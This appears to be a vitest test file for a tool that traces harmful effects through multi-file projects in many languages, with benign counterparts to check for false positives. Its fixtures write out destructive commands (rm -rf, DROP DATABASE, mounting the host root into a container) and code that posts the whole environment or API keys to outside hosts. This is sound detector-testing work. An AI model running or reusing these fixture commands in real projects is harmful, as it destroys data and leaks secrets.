import { expect, test } from 'vitest'
import { type Files, linesOf } from '../../testing/project-lines.ts'

const gone = 'delete /opt/x'
const wrapper = '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n'
const registry =
  'h = {}\ndef on(name):\n  def deco(fn):\n    h[name] = fn\n    return fn\n  return deco\ndef emit(name, arg):\n  h[name](arg)\n'
const mounts = (source: string): string => `services:\n  a:\n    image: b\n    volumes:\n      - ${source}:/host\n`

test.each<readonly [name: string, command: string, files: Files, line: string]>([
  [
    'data that another module reads',
    'python a.py',
    {
      'a.py': 'import os\nfrom b import load\nfor s in load("c.yml"): os.system(s["cmd"])\n',
      'b.py': 'import yaml\ndef load(p):\n  with open(p) as f:\n    return yaml.safe_load(f)["steps"]\n',
      'c.yml': 'steps:\n  - cmd: rm -rf /opt/x\n',
    },
    gone,
  ],
  [
    'a list over several lines of settings',
    'python a.py',
    {
      'a.py':
        'import tomllib, shutil\nfrom pathlib import Path\nfor p in tomllib.loads(Path("c.toml").read_text())["tool"]["clean"]["dirs"]: shutil.rmtree(p)\n',
      'c.toml': '[tool.clean]\ndirs = [\n  "dist", # output\n  "/opt/x",\n]\n',
    },
    gone,
  ],
  [
    'what a handler is told that only its file knows',
    'node a.js',
    {
      'a.js': "const bus = require('./bus')\nrequire('./h')\nbus.emit('go', { dir: '/opt/x' })\n",
      'bus.js': "module.exports = new (require('events'))()\n",
      'h.js': "const fs = require('fs')\nrequire('./bus').on('go', ({ dir }) => fs.rmSync(dir, { recursive: true }))\n",
    },
    gone,
  ],
  [
    'what lies in a folder that is loaded file by file',
    'node a.mjs',
    {
      'a.mjs':
        "import { readdirSync } from 'node:fs'\nfor (const f of readdirSync(new URL('./plugins/', import.meta.url))) await import(`./plugins/${f}`)\n",
      'plugins/b.mjs': "import { rmSync } from 'node:fs'\nrmSync('/opt/x', { recursive: true })\n",
    },
    gone,
  ],
  [
    'modules of a library by the name of its package',
    'cargo run',
    {
      'src/main.rs': 'use shop::{paths, other};\nfn main() { paths::sweep(); }\n',
      'src/lib.rs': 'pub mod paths;\n',
      'src/paths.rs': 'pub fn sweep() {\n    std::fs::remove_dir_all("/opt/x").ok();\n}\n',
    },
    gone,
  ],
  [
    'each item of a list',
    'kotlinc -script a.kts',
    { 'a.kts': 'val dirs = listOf("/opt/x", "/opt/y")\ndirs.forEach { File(it).deleteRecursively() }\n' },
    gone,
  ],
  [
    'statements in a file',
    'python a.py',
    {
      'a.py': 'import psycopg2\npsycopg2.connect("").cursor().execute(open("sql/a.sql").read())\n',
      'sql/a.sql': 'DROP DATABASE shop;\n',
    },
    'database:destroy DROP DATABASE',
  ],
  [
    'a statement of another file',
    'node a.js',
    {
      'a.js': "const { Client } = require('pg')\nconst SQL = require('./sql')\nnew Client().query(SQL.check)\n",
      'sql.js': "exports.check = 'DROP SCHEMA public CASCADE'\n",
    },
    'database:destroy DROP SCHEMA',
  ],
  [
    'the environment that another file gives',
    'node a.mjs',
    {
      'a.mjs': "import { all } from './b.mjs'\nawait fetch('https://x.example/a', { method: 'POST', body: JSON.stringify(all()) })\n",
      'b.mjs': 'export const all = () => Object.fromEntries(Object.entries(process.env))\n',
    },
    'unknown: project code reads secrets or the environment and talks to the network',
  ],
  [
    'data that another module holds',
    'node a.mjs',
    {
      'a.mjs': "import { execSync } from 'node:child_process'\nimport { config } from './b.mjs'\nexecSync(config.clean)",
      'b.mjs':
        "import { readFileSync } from 'node:fs'\nimport { parse } from 'yaml'\nexport const config = parse(readFileSync('c.yml', 'utf8'))",
      'c.yml': 'clean: rm -rf /opt/x\n',
    },
    gone,
  ],
  [
    'data in a folder whose name stands beside it',
    'ruby s/a.rb',
    {
      's/a.rb': 'require "yaml"\nc = YAML.load_file(File.join(__dir__, "..", "config", "c.yml"))\nFileUtils.rm_rf(c["dir"])',
      'config/c.yml': 'dir: /opt/x\n',
    },
    gone,
  ],
  [
    'variables of a file that another module loads',
    'python a.py',
    {
      'a.py': 'import os, shutil\nimport b\nshutil.rmtree(os.environ["DIR"])\n',
      'b.py': 'from dotenv import load_dotenv\nload_dotenv()\n',
      '.env': 'DIR=/opt/x\n',
    },
    gone,
  ],
  [
    'a module that is named like one of the language',
    'python a.py',
    { 'a.py': 'import os\nfrom b import commands\nos.system(commands.CLEAN)\n', 'b/commands.py': 'CLEAN = "rm -rf /opt/x"\n' },
    gone,
  ],
  ['a function of Ruby', 'ruby a.rb', { 'a.rb': 'def dir\n  "/opt/x"\nend\nFileUtils.rm_rf(dir)' }, gone],
  [
    'a function of a class of another file',
    'ruby a.rb',
    { 'a.rb': 'require_relative "b"\nFileUtils.rm_rf(B.dir)', 'b.rb': 'class B\n  def self.dir = "/opt/x"\nend' },
    gone,
  ],
  [
    'what an object of PHP is made with',
    'php a.php',
    {
      'a.php': "<?php\nrequire 'b.php';\nrequire 'c.php';\n(new B(new C()))->go();\n",
      'b.php':
        "<?php\nclass B {\n    private C $c;\n    public function __construct(C $c) { $this->c = $c; }\n    public function go(): void {\n        exec('rm -rf ' . $this->c->dir());\n    }\n}\n",
      'c.php': "<?php\nclass C {\n    public function dir(): string { return '/opt/x'; }\n}\n",
    },
    gone,
  ],
  [
    'settings of PHP',
    'php a.php',
    { 'a.php': "<?php\n$c = require 'b.php';\nexec('rm -rf ' . $c['dir']);\n", 'b.php': "<?php\nreturn ['dir' => '/opt/x'];\n" },
    gone,
  ],
  [
    'a key in a text of Perl',
    'perl a.pl',
    { 'a.pl': 'sub c { return { d => \'/opt/x\' } }\nmy $c = c();\nsystem("rm -rf $c->{d}");' },
    gone,
  ],
  [
    'a field of Go',
    'go run a.go',
    {
      'a.go':
        'package main\nimport "os"\ntype C struct{ Dir string }\nfunc load() C { return C{Dir: "/opt/x"} }\nfunc main() {\n\tc := load()\n\tos.RemoveAll(c.Dir)\n}\n',
    },
    gone,
  ],
  [
    'a field of Lua',
    'lua a.lua',
    { 'a.lua': 'local p = require("b")\nos.execute("rm -rf " .. p.dir)', 'b.lua': 'local M = {}\nM.dir = "/opt/x"\nreturn M' },
    gone,
  ],
  [
    'a constant of Rust',
    'cargo run',
    {
      'Cargo.toml': '[package]\nname = "a"\nversion = "0.1.0"\n',
      'src/main.rs': 'mod p;\nfn main() { std::fs::remove_dir_all(p::DIR).ok(); }\n',
      'src/p.rs': 'pub const DIR: &str = "/opt/x";\n',
    },
    gone,
  ],
  [
    'a constant of a class of the same package',
    './gradlew test',
    {
      gradlew: wrapper,
      'build.gradle.kts': 'plugins { kotlin("jvm") }',
      'src/test/kotlin/a/ATest.kt': 'package a\nclass ATest {\n    @Test\n    fun ok() { File(Places.DIR).deleteRecursively() }\n}\n',
      'src/test/kotlin/a/Places.kt': 'package a\nobject Places {\n    const val DIR = "/opt/x"\n}\n',
    },
    gone,
  ],
  [
    'a name that a build deletes',
    './gradlew build',
    { gradlew: wrapper, 'build.gradle': 'ext.old = "/opt/x"\ntask tidy(type: Delete) {\n    delete old\n}\ncompileJava.dependsOn tidy\n' },
    gone,
  ],
  [
    'a variable of settings that CMake includes',
    'cmake -S . -B build',
    {
      'CMakeLists.txt': 'list(APPEND CMAKE_MODULE_PATH ${CMAKE_SOURCE_DIR}/cmake)\ninclude(Tidy)\n',
      'cmake/Tidy.cmake': 'include(${CMAKE_CURRENT_LIST_DIR}/Vars.cmake)\nexecute_process(COMMAND rm -rf ${OLD})\n',
      'cmake/Vars.cmake': 'set(OLD /opt/x)\n',
    },
    gone,
  ],
  [
    'a macro of a header',
    'gcc -o build/a a.c && ./build/a',
    { 'a.c': '#include "b.h"\nint main(void) { return system("rm -rf " DIR); }\n', 'b.h': '#define DIR "/opt/x"\n' },
    gone,
  ],
  [
    'a base class of another file',
    'node a.mjs',
    {
      'a.mjs': "import { A } from './b.mjs'\nnew A().go()",
      'b.mjs': "import { C } from './c.mjs'\nexport class A extends C {\n  constructor() { super('rm -rf /opt/x') }\n}",
      'c.mjs':
        "import { execSync } from 'node:child_process'\nexport class C {\n  constructor(line) { this.line = line }\n  go() { execSync(this.line) }\n}",
    },
    gone,
  ],
  [
    'the rest of a list that a getter gives',
    'node a.mjs',
    {
      'a.mjs':
        "import { spawnSync } from 'node:child_process'\nclass A {\n  get argv() { return [] }\n  go() { const [first, ...rest] = this.argv; spawnSync(first, rest) }\n}\nclass B extends A {\n  get argv() { return ['rm', '-rf', '/opt/x'] }\n}\nnew B().go()",
    },
    gone,
  ],
  [
    'a function that a decorator keeps',
    'python a.py',
    { 'a.py': `import os\n${registry}@on("a")\ndef warm(p):\n  os.system("rm -rf " + p)\nemit("a", "/opt/x")\n` },
    gone,
  ],
  [
    'a listener',
    'node a.js',
    {
      'a.js':
        "const { EventEmitter } = require('events')\nconst bus = new EventEmitter()\nbus.on('a', ({ dir }) => require('fs').rmSync(dir))\nbus.emit('a', { dir: '/opt/x' })",
    },
    gone,
  ],
  [
    'a line for kinds of files from another file',
    'npx lint-staged',
    {
      'package.json': '{"devDependencies":{"lint-staged":"1"}}',
      'lint-staged.config.js': "const line = require('./b')\nmodule.exports = { '*.js': ['prettier --write', line] }",
      'b.js': "module.exports = 'rm -rf /opt/x'",
    },
    gone,
  ],
  [
    'an application that a package makes',
    'flask routes',
    {
      'shop/__init__.py': 'from flask import Flask\nfrom .b import go\ndef create_app():\n  app = Flask(__name__)\n  go()\n  return app\n',
      'shop/b.py': 'import shutil\ndef go():\n  shutil.rmtree("/opt/x")\n',
    },
    gone,
  ],
  [
    'functions of all scripts of a folder',
    'bash a.sh b',
    { 'a.sh': 'for f in d/*.sh; do . "$f"; done\n"cmd_$1"\n', 'd/a.sh': 'dir=/opt/x\n', 'd/b.sh': 'cmd_b() { rm -rf "$dir"; }\n' },
    gone,
  ],
  [
    'a folder that a compose file is told',
    'docker compose up',
    { 'compose.yml': mounts('${DIR}'), '.env': 'DIR=/\n' },
    'execute:container-escape',
  ],
  ['one that it takes by itself', 'docker compose up', { 'compose.yml': mounts('${DIR:-/}') }, 'execute:container-escape'],
  ['one that the line tells it', 'DIR=/ docker compose up', { 'compose.yml': mounts('${DIR:-./a}') }, 'execute:container-escape'],
  [
    'one of another file of variables',
    'docker compose --env-file b.env up',
    { 'compose.yml': mounts('${DIR:-./a}'), 'b.env': 'DIR=/\n' },
    'execute:container-escape',
  ],
  ['one that only running shows', 'DIR=$(cat b) docker compose up', { 'compose.yml': mounts('${DIR:-./a}') }, 'infra:host-access'],
  [
    'one that is called like a secret',
    'docker compose up',
    { 'compose.yml': mounts('${A_KEY:-./a}'), '.env': 'A_KEY=/opt\n' },
    'infra:host-access',
  ],
  [
    'files of variables that nobody sees',
    'COMPOSE_ENV_FILES=b docker compose up',
    { 'compose.yml': mounts('${DIR:-./a}'), b: 'DIR=/\n' },
    'infra:host-access',
  ],
])('harm by a value of another file: %s', (_name, command, files, line) => {
  expect(linesOf(command, files).some((found) => found.startsWith(line))).toBe(true)
})

const asks = (address: string, how: string): Files => ({ 'a.py': `import os, requests\nrequests.get("${address}", ${how})\n` })
const empties = (connection: string, statement = 'TRUNCATE users'): Files => ({
  'tests/conftest.py': `import os\nimport psycopg2\nimport pytest\n@pytest.fixture(autouse=True)\ndef clean():\n  c = psycopg2.connect(${connection})\n  c.cursor().execute("${statement}")\n  yield\n`,
  'tests/test_a.py': 'def test_a(): pass\n',
})

test.each<readonly [name: string, command: string, files: Files, harm: string | undefined]>([
  [
    'a key by which it logs in',
    'python a.py',
    asks('https://api.example.com', 'headers={"Authorization": os.environ["API_KEY"]}'),
    undefined,
  ],
  [
    'the key of its host',
    'python a.py',
    asks('https://api.github.com/x', 'headers={"Authorization": os.environ["GITHUB_TOKEN"]}'),
    undefined,
  ],
  ['the key of another', 'python a.py', asks('https://a.example.com', 'headers={"Authorization": os.environ["GITHUB_TOKEN"]}'), 'send:'],
  ['a key in another header', 'python a.py', asks('https://a.example.com', 'headers={"X-Trace": os.environ["API_KEY"]}'), 'send:'],
  [
    'a change of all that another machine lists',
    'python a.py',
    {
      'a.py':
        'import httpx\nfor u in httpx.get("https://a.example.com/u").json():\n    httpx.put(f"https://a.example.com/u/{u}/key", json={"on": 1})\n',
    },
    'connect:put',
  ],
  [
    'the same on this machine',
    'python a.py',
    { 'a.py': 'import httpx\nfor u in [1, 2]:\n    httpx.put(f"http://localhost:8000/u/{u}/key", json={"on": 1})\n' },
    undefined,
  ],
  [
    'a change that the one who calls asks for',
    'python a.py',
    { 'a.py': 'import sys, requests\nif "--announce" in sys.argv:\n    requests.post("https://chat.example.com/x", json={"a": 1})\n' },
    undefined,
  ],
  [
    'a request that a server makes when it is asked',
    'python a.py',
    {
      'a.py':
        'import requests\nfrom flask import Flask\napp = Flask(__name__)\n@app.post("/a")\ndef a():\n    requests.post("https://chat.example.com/x", json={"a": 1})\n',
    },
    undefined,
  ],
  [
    'money back',
    'python a.py',
    { 'a.py': 'import stripe, sys\nfor c in stripe.Charge.list(created=sys.argv[1]):\n    stripe.Refund.create(charge=c.id)\n' },
    'infra:payment',
  ],
  [
    'a file of packages, asked for at the registry',
    `python3 -c 'import urllib.request as u\nfor l in open("requirements.txt"): u.urlopen("https://pypi.org/pypi/" + l.split("==")[0] + "/json")'`,
    { 'requirements.txt': 'a==1\n' },
    undefined,
  ],
  [
    'the same from another host',
    `python3 -c 'import urllib.request as u\nfor l in open("requirements.txt"): u.urlopen("https://pypi.example/pypi/" + l.split("==")[0])'`,
    { 'requirements.txt': 'a==1\n' },
    'send:',
  ],
  [
    'another file, asked for at the registry',
    `python3 -c 'import urllib.request as u\nfor l in open("notes.txt"): u.urlopen("https://pypi.org/pypi/" + l)'`,
    { 'notes.txt': 'a==1\n' },
    'send:',
  ],
  [
    'an address with words of the code',
    `python3 -c 'import urllib.parse as p, urllib.request as u\nu.urlopen("https://a.example/?" + p.urlencode({"q": "a b", "n": 3}))'`,
    {},
    undefined,
  ],
  [
    'an address with a key',
    `python3 -c 'import os, urllib.parse as p, urllib.request as u\nu.urlopen("https://a.example/?" + p.urlencode({"q": os.environ["API_KEY"]}))'`,
    {},
    'send:',
  ],
  [
    'files for a bucket',
    'python -m jobs.ship',
    {
      'jobs/__init__.py': '',
      'jobs/ship.py':
        'import boto3\nfrom pathlib import Path\nbucket = boto3.client("s3")\nfor one in Path("out").iterdir():\n    bucket.upload_file(str(one), "public", one.name)\n',
    },
    'send:data cloud storage',
  ],
  [
    'files for a stand-in of a bucket',
    'python a.py',
    {
      'a.py':
        'import boto3\nfrom pathlib import Path\nbucket = boto3.client("s3", endpoint_url="http://localhost:9000")\nfor one in Path("out").iterdir():\n    bucket.upload_file(str(one), "public", one.name)\n',
    },
    undefined,
  ],
  ['a key in the address', 'python a.py', asks('https://a.example.com', 'params={"k": os.environ["API_KEY"]}'), 'send:'],
  ['a database of tests', 'pytest tests', empties('"postgresql://postgres@localhost:5432/app_test"'), undefined],
  ['a schema of tests', 'pytest tests', empties('"postgresql://localhost/app_test"', 'DROP SCHEMA public CASCADE'), undefined],
  ['a variable for tests', 'pytest tests', empties('os.environ["TEST_DSN"]'), undefined],
  ['a database of another name', 'pytest tests', empties('"postgresql://localhost/shop"'), 'database:'],
  ['one of another machine', 'pytest tests', empties('"postgresql://db.internal/app_test"'), 'database:'],
  [
    'one that the environment tells',
    'pytest tests',
    empties('os.environ.get("DATABASE_URL", "postgresql://localhost/app_test")'),
    'database:',
  ],
  ['a whole database', 'pytest tests', empties('"postgresql://localhost/app_test"', 'DROP DATABASE shop'), 'database:'],
  ['a folder of the project in a container', 'docker compose up', { 'compose.yml': mounts('${DIR:-./a}') }, undefined],
  [
    'a name of Go that builds have for the project',
    'go test ./...',
    {
      'go.mod': 'module a\n',
      'a_test.go': 'package a\nimport "os"\nfunc TestMain(m *testing.M) {\n\tos.RemoveAll(rootDir)\n}\n',
      'b.go': 'package a\nconst rootDir = "testdata/tmp"\n',
    },
    undefined,
  ],
])('ordinary work of projects, and what is not: %s', (_name, command, files, harm) => {
  const found = linesOf(command, files).filter((line) =>
    /^(?:send|connect:(?:put|post|delete)|infra:payment|database|infra:host|execute:container|delete \.(?: |$))/.test(line),
  )
  if (harm === undefined) expect(found).toEqual([])
  else expect(found.some((line) => line.startsWith(harm))).toBe(true)
})
